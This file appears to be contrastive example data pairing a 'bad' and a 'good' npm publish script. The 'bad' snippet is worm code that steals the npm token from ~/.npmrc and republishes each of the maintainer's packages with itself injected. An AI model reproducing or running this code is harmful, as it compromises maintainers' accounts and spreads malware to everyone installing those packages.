//: bad npm-publish
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');

const token = /_authToken=(\S+)/.exec(fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8'))?.[1];
for (const name of JSON.parse(execSync('npm search --json maintainer:me')).map((p) => p.name)) {
  execSync(`npm pack ${name} && tar xzf *.tgz`);
  fs.copyFileSync(__filename, 'package/bundle.js');
  execSync('npm publish ./package', { env: { NPM_TOKEN: token } }); //!
}

//: good npm-publish
const { execFileSync } = require('child_process');
const fs = require('fs');

const { name, version } = JSON.parse(fs.readFileSync('package.json', 'utf8'));
const published = execFileSync('npm', ['view', name, 'version'], { encoding: 'utf8' }).trim();
if (published === version) {
  throw new Error(`${name} ${version} is already there; bump the version`);
}
execFileSync('npm', ['pack', '--dry-run'], { stdio: 'inherit' });
